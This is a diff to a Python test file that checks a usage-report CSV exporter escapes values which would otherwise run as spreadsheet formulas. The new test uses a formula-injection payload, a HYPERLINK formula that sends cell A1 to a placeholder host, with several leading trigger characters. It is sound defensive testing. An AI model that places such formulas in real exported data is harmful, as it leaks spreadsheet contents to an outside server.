@@ -85,6 +85,14 @@ def test_filters_narrow_down(filled: Store, clock: Callable[[], int]) -> None:
 def test_csv_reads_back(filled: Store) -> None:
     rows = read_usage(filled, "user")
     table = list(csv.DictReader(io.StringIO(usage_csv("user", rows))))
-    assert [entry["user"] for entry in table] == [row.group for row in rows]
+    assert [entry["user"] for entry in table] == ["", "'=1+1", "ann", "bob"]
     assert [entry["cost"] for entry in table] == [str(row.cost // 10**12) for row in rows]
     assert list(table[0]) == ["user", *UsageRow.__struct_fields__[1:]]
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+def test_no_user_becomes_a_formula_in_a_spreadsheet(begin: str) -> None:
+    user = f'{begin}HYPERLINK("http://a.example/?"&A1)'
+    row = UsageRow(user, *(0,) * (len(UsageRow.__struct_fields__) - 1))
+    (entry,) = csv.DictReader(io.StringIO(usage_csv("user", [row]), newline=""))
+    assert entry["user"] == "'" + user
